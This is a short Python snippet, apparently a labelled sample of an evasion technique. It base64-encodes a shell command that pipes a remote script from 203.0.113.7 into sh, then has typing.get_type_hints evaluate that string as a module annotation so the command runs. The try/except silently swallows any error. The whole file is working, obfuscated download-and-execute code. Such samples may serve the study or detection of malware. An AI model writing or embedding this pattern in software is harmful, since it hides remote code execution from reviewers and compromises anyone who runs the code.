# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: decoded string injected as a fresh module's __annotations__ via vars(m).update(), then typing.get_type_hints(m) evaluates it
import base64
import types
import typing

ENC = "X19pbXBvcnRfXygib3MiKS5zeXN0ZW0oInNoIC1jICdjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy94fHNoJyIp"

m = types.ModuleType("schema")
vars(m).update(__annotations__={"field": base64.b64decode(ENC).decode()})
try:
    typing.get_type_hints(m)
except TypeError:
    pass
